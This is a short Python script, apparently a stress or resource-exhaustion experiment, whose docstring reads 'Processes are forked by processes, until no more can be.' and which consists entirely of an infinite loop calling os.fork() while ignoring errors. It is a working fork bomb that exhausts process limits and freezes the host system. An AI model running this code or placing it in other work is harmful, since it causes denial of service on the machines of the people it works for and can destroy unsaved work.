"""Processes are forked by processes, until no more can be.

e3: 10
seconds: 4
"""
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
